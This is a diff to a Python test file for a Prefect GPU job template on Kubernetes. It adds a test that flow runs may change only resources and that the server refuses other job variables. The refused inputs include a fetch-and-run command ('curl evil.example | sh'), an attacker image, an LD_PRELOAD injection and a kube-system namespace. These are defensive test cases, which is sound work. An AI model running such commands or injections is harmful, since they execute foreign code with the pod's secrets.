@@ -121,7 +121,7 @@ def test_the_gpu_job_template_renders_to_a_job_requesting_gpus(servers):
     [container] = pod["containers"]
     assert container["resources"]["limits"] == {"memory": "512Gi", "nvidia.com/gpu": 8}
     assert container["resources"]["requests"]["nvidia.com/gpu"] == 8
-    assert container["envFrom"] == [{"secretRef": {"name": "r1-secrets", "optional": True}}]  # e.g. the judge key
+    assert container["envFrom"][0] == {"secretRef": {"name": "r1-secrets", "optional": True}}  # logins, judge key
     assert pod["tolerations"] == [{"key": "nvidia.com/gpu", "operator": "Exists", "effect": "NoSchedule"}]
     assert eight.namespace == "r1" and eight.job_manifest["spec"]["ttlSecondsAfterFinished"] == 3600
     # one pod per flow run: Kubernetes reads these from the Job's spec (in the pod's spec they are not fields)
@@ -129,10 +129,36 @@ def test_the_gpu_job_template_renders_to_a_job_requesting_gpus(servers):
     assert (job["parallelism"], job["completions"], job["backoffLimit"]) == (1, 1, 0)
     assert not {"parallelism", "completions", "backoffLimit"} & set(pod)
 
-    one = call(servers["api"], render, {"gpu_count": 1, "env": {"MLFLOW_TRACKING_URI": "http://mlflow:5000"}})
+    one = call(servers["api"], render, {"gpu_count": 1})
     [container] = one.job_manifest["spec"]["template"]["spec"]["containers"]
     assert container["resources"]["limits"] == {"memory": "64Gi", "nvidia.com/gpu": 1}
-    assert one.env["MLFLOW_TRACKING_URI"] == "http://mlflow:5000"
+    # what a run may not change is written into the job: the image, the namespace, the secrets and settings
+    assert (container["image"], one.namespace) == ("ghcr.io/r1-pipeline/r1:latest", "r1")
+    assert container["envFrom"][1] == {"configMapRef": {"name": "r1-config", "optional": True}}  # MLflow's URI...
+
+
+def test_a_flow_run_on_the_gpu_pool_may_set_its_resources_and_nothing_else(servers):
+    """Who reaches the Prefect API (with its login) starts flow runs of the team's deployments with job variables
+    of their choosing: the GPU pool's template lists only what a run should change, and the server refuses the
+    rest, the command and the image above all (either one is running code of one's own with the pod's secrets)."""
+    from prefect.exceptions import PrefectHTTPStatusError
+
+    async def start(client, job_variables):
+        deployment = await client.read_deployment_by_name("r1_pipeline/gpu")
+        return await client.create_flow_run_from_deployment(deployment.id, job_variables=job_variables)
+
+    async def delete(client, flow_run):
+        await client.delete_flow_run(flow_run.id)
+
+    allowed = call(servers["api"], start, {"gpu_count": 2, "memory": "128Gi", "node_selector": {"pool": "a100"}})
+    assert allowed.job_variables["gpu_count"] == 2
+    call(servers["api"], delete, allowed)
+    for wrong in ({"command": "curl evil.example | sh"}, {"image": "evil/image"}, {"env": {"LD_PRELOAD": "x"}},
+                  {"env_secret": "other-team"}, {"namespace": "kube-system"}):
+        with pytest.raises(PrefectHTTPStatusError) as refused:
+            call(servers["api"], start, wrong)
+        assert refused.value.response.status_code in (409, 422), wrong
+        assert next(iter(wrong)) in refused.value.response.text, refused.value.response.text
 
 
 def test_a_stage_deployment_runs_on_a_worker_and_logs_to_mlflow(servers):
